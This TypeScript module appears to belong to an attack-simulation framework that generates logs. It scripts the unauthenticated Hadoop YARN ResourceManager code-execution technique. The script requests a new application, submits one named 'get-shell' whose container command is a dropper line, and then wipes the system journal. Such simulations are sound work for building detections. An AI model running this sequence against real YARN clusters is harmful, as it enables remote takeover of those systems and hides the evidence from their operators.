// Played by a toy with the log of a ResourceManager.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { ordinary } from '../../past.ts'
import { yarn } from '../../products.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  dress.toy(yarn)
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.yarn/java-x' })
  stage.mark('occurrence')
  await stage.http('203.0.113.33', ':8088/ws/v1/cluster/apps/new-application', '')
  const body = {
    'application-id': 'application_1',
    'application-name': 'get-shell',
    'am-container-spec': { commands: { command: line } },
    'application-type': 'YARN',
  }
  await stage.http('203.0.113.33', ':8088/ws/v1/cluster/apps', JSON.stringify(body), { 'Content-Type': 'application/json' })
  await wipe(stage, ['journal'])
}
